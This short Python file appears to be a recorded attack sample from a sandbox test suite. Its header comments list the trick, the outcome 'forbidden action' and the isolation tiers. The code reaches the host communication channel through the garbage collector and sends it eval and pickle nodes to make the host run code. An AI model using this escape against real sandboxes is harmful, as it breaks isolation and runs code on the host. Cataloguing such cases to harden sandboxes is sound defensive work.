# trick: sends nodes of types that a careless reader would build or run
# outcome: forbidden action
# detail: broke the protocol
# tiers: bwrap namespaces landlock rlimits
import gc

channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")


def f(xs):
    node = ["eval", "__import__('os')._exit(0)"]
    channel.send({"value": {"nodes": [node, ["pickle", "gASVAAAA"]], "item": [0]}})
    return xs
